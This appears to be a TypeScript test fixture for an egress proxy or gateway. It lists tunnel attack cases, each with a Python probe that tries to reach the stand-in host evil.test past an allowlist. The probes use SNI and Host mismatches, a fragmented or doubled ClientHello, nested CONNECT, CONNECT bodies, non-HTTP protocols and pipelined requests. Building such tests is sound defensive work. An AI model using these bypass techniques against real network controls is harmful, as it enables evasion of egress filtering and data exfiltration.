import type { NetworkAttack } from './network-attack.ts'

/** CONNECT against the server name of TLS against Host. */
export const tunnelAttacks: readonly NetworkAttack[] = [
  {
    name: 'a foreign server name in a tunnel to an allowed host',
    off: ['server-name'],
    python: `
s, status = connect(f'front.test:{S}')
print(status, secure(s, MARK + '.evil.test') is not None)`,
  },
  {
    name: 'no server name in a tunnel to an allowed host',
    off: ['server-name'],
    python: `
s, status = connect(f'front.test:{S}')
t = secure(s, None)
print(status, t and say(t, request('GET', '/' + MARK, 'evil.test')))`,
  },
  {
    name: 'a foreign server name in a hello of many small records that come slowly',
    off: ['server-name'],
    python: `
s, status = connect(f'front.test:{S}')
out = hello(MARK + '.evil.test')[5:]
for i in range(0, len(out), 40):
    part = out[i:i + 40]
    s.sendall(b'\\x16\\x03\\x01' + len(part).to_bytes(2, 'big') + part[:7])
    time.sleep(0.01)
    s.sendall(part[7:])
print(status, len(say(s, b'')))`,
  },
  {
    name: 'two server names in one hello',
    off: ['first-words', 'server-name'],
    python: `
def name(host):
    host = host.encode()
    inner = b'\\0' + len(host).to_bytes(2, 'big') + host
    value = len(inner).to_bytes(2, 'big') + inner
    return b'\\0\\0' + len(value).to_bytes(2, 'big') + value
extensions = name('raw.test') + name(MARK + '.evil.test')
body = b'\\3\\3' + bytes(32) + b'\\0' + b'\\0\\2\\x13\\1' + b'\\1\\0' + len(extensions).to_bytes(2, 'big') + extensions
hand = b'\\1' + len(body).to_bytes(3, 'big') + body
print(tunnel(f'raw.test:{R}', b'\\x16\\3\\1' + len(hand).to_bytes(2, 'big') + hand))`,
  },
  {
    name: 'a tunnel with words that are neither TLS nor HTTP',
    off: ['first-words', 'server-name'],
    python: `
for words in ['SSH-2.0-' + MARK + '\\r\\n', 'EHLO ' + MARK + '\\r\\n', '*1\\r\\n$4\\r\\n' + MARK + '\\r\\n', '\\0' + MARK, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + MARK]:
    print(tunnel(f'raw.test:{R}', words.encode())[:12])`,
  },
  {
    name: 'plain HTTP in a tunnel to an allowed host, with the Host of another',
    off: ['host'],
    python: `print(tunnel(f'front.test:{P}', request('GET', '/', MARK + '.evil.test')))`,
  },
  {
    name: 'a target in absolute form in a tunnel to an allowed host',
    off: ['host'],
    python: `print(tunnel(f'front.test:{P}', request('GET', f'http://{MARK}.evil.test:{P}/', f'front.test:{P}')))`,
  },
  {
    name: 'an allowed host in absolute form, with the Host of another',
    off: ['host'],
    python: `print(talk(request('GET', f'http://front.test:{P}/', MARK + '.evil.test'), 2))`,
  },
  {
    name: 'two Hosts, of which the second is foreign',
    off: ['host'],
    python: `print(talk(request('GET', f'http://front.test:{P}/', f'front.test:{P}', f'Host: {MARK}.evil.test\\r\\n'), 2))`,
  },
  {
    name: 'a foreign Host in TLS that the gateway reads',
    off: ['host'],
    python: `print(inspected('read.test', request('GET', '/', MARK + '.evil.test')))`,
  },
  {
    name: 'CONNECT in a tunnel to an allowed host',
    off: ['first-words', 'server-name'],
    python: `print(tunnel(f'front.test:{P}', f'CONNECT {MARK}.evil.test:443 HTTP/1.1\\r\\nHost: {MARK}.evil.test:443\\r\\n\\r\\n'.encode()))`,
  },
  {
    name: 'CONNECT whose body is the first request of its tunnel',
    off: ['connect-body'],
    python: `
raw = request('GET', '/' + MARK, f'front.test:{P}')
s, status = connect(f'front.test:{P}', f'Content-Length: {len(raw)}\\r\\n'.encode())
print(status, say(s, raw) if status == 200 else '')`,
  },
  {
    name: 'a second request on one connection, to a host without a rule',
    off: ['rules', 'address'],
    python: `
first = request('GET', f'http://front.test:{P}/', f'front.test:{P}', last=False)
print(statuses(talk(first + request('GET', f'http://evil.test:{P}/{MARK}', f'evil.test:{P}'), 2)))`,
  },
]
